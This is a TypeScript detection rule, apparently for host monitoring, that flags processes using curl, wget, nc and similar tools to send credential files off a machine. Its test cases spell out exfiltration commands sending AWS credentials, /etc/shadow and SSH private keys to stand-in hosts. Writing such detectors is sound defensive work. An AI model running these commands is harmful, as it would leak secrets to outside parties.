import { commandsOf, isProgram } from '../../src/detect/reading/command.ts'
import { meantPath } from '../../src/detect/reading/paths.ts'
import {
  asTyped,
  isProgramStart,
  mentions,
  PROGRAM_START_TABLES,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { anyOf } from '../../src/detect/reading/words.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { SECRET_FILES } from '../data/secret-files.ts'

/** Programs that can send a file or their input. Copies between hosts of one's own (scp, rsync) are work of every day. */
const SENDERS = ['curl', 'wget', 'nc', 'ncat', 'netcat', 'tftp', 'socat', 'ftp'] as const

/** Asked first: almost no line holds any of it, and reading one as a shell does costs fifty times as much. */
const SECRETS = anyOf(...SECRET_FILES.endings)

export default rule({
  id: 'posix.sends-secrets',
  title: 'Command sends a file of keys or passwords away',
  severity: 'high',
  on: joining(table(...PROGRAM_START_TABLES), 'parent_path'),
  attack: ['T1552.001', 'T1048', 'T1567'],
  detect: ({ columns }) =>
    isProgramStart(columns) && mentions(columns.cmdline, SECRETS) && sent(columns.cmdline) !== null,
  alertTitle: ({ host, columns }) => `${sent(columns.cmdline) ?? 'A secret'} of ${host} is sent away`,
  context: ({ columns }) => ({ ...toldProgram(columns), secret: sent(columns.cmdline) }),
  means:
    'A file of keys or passwords goes out through a tool for the network. Take what is in it for known to others.',
  check:
    "SELECT time, pid, parent, path, cmdline, auid FROM process_events WHERE cmdline LIKE '%curl%' OR cmdline LIKE '%wget%' OR cmdline LIKE '%nc %' ORDER BY time DESC LIMIT 50;",
  benign: 'A script of your own that puts keys into a vault, tests of security staff.',
  runbook:
    'See where it goes. A vault of yours: nothing to do but a better way. Otherwise rotate what was sent at once, look in the logs of those services for its use, isolate the host and find who got in.',
  references: [
    'https://attack.mitre.org/techniques/T1552/001/',
    'https://attack.mitre.org/techniques/T1048/',
  ],
  tests: [
    {
      name: 'posted',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/curl',
        cmdline: 'curl -d @/root/.aws/credentials https://example.com/x',
        pid: '7',
        parent: '1',
        uid: '0',
        cwd: '/',
      },
      title: '/root/.aws/credentials of test-host is sent away',
      dedup: 'test-host-id',
      severity: 'high',
      context: {
        program: '/usr/bin/curl',
        command: 'curl -d @/root/.aws/credentials https://example.com/x',
        pid: '7',
        parent: '1',
        folder: '/',
        uid: '0',
        euid: '',
        login: '',
        time: '',
        secret: '/root/.aws/credentials',
      },
    },
    {
      name: 'as a form, told by an older agent',
      match: true,
      table: 'bpf_process_events',
      columns: { cmdline: 'curl -F file=@/etc/shadow https://example.com' },
    },
    {
      name: 'through a pipe, on a Mac',
      match: true,
      table: 'es_process_events',
      columns: { event_type: 'exec', cmdline: 'sh -c cat /Users/ada/.ssh/id_ed25519 | nc 198.51.100.7 9000' },
    },
    {
      name: 'a password for the server',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl --netrc-file /home/ada/.netrc https://example.com' },
    },
    {
      name: 'a key for the server, within the cluster',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl -H Authorization: Bearer x https://kubernetes.default.svc/api' },
    },
    { name: 'only read', match: false, table: 'process_events', columns: { cmdline: 'cat /etc/shadow' } },
    {
      name: 'another file',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl -T report.pdf https://example.com' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { event_type: 'exit', cmdline: 'curl -d @/root/.aws/credentials https://example.com/x' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'process_events',
      columns: { cmdline: 'curl -d @/root/.aws/credentials https://example.com/x' },
    },
  ],
})

/** The secret that goes into a tool for the network, or null. */
function sent(cmdline: string): string | null {
  const commands = commandsOf(asTyped(cmdline))
  if (!commands.some(command => isProgram(command, ...SENDERS))) return null
  for (const command of commands) {
    const feeds =
      isProgram(command, ...SENDERS) || commands.some(other => other.piped && other.links.source === command)
    if (!feeds) continue
    for (const [index, arg] of [...command.args, ...command.reads].entries()) {
      if (/^--?netrc/.test(command.args[index - 1] ?? '')) continue
      const path = meantPath(arg.slice(arg.indexOf('@') + 1))
      if (SECRET_FILES.endings.some(ending => path.endsWith(ending))) return path
    }
  }
  return null
}
